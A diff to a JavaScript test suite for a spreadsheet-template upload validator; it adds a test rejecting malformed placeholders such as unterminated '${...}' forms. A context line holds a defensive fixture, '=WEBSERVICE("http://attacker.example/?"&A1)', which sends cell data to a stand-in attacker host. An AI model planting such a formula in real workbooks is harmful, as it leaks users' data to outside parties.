@@ -299,6 +299,20 @@ describe('uploaded templates', () => {
     ],
     ['unknown placeholders', () => template({ ...VALID, B9: '${customer.nmae}', C9: '${table:items.colour}', D9: '${image:logo}' }), { B9: 'unknown placeholder ${customer.nmae}', C9: 'unknown placeholder ${table:items.colour}', D9: 'unknown placeholder ${image:logo}' }, 400, /unknown placeholder/],
     [
+      'malformed placeholders (xlsx-template would print them as they are)',
+      () => template({ ...VALID, B9: '${customer.name', C9: '客户：${customer.contact 和 ${quote.number}', D9: '${}', E9: 'Mail: {customer.email}', F9: '${table:items.sku:x:y}', G9: '{{customer.phone}}' }),
+      {
+        B9: 'unterminated placeholder "${customer.name"',
+        C9: 'unterminated placeholder "${customer.contact 和 "',
+        D9: 'malformed placeholder "${}"',
+        E9: '"{customer.email}" lacks its "$"',
+        F9: 'malformed placeholder "${table:items.sku:x:y}"',
+        G9: '"{{customer.phone}}" lacks its "$"',
+      },
+      400,
+      /placeholder/,
+    ],
+    [
       'formulas that reach outside the sheet',
       () => template({ ...VALID, E1: '=Prices!A1*2', E2: '=[1]Rates!B2', E3: '=WEBSERVICE("http://attacker.example/?"&A1)', E4: '=HYPERLINK("http://x.example","x")', E5: '=INDIRECT("Prices!A1")', E6: '=SUM(D4:D4)' }, true),
       { E1: 'another sheet', E2: 'another workbook', E3: 'uses WEBSERVICE', E4: 'uses HYPERLINK', E5: 'INDIRECT' },
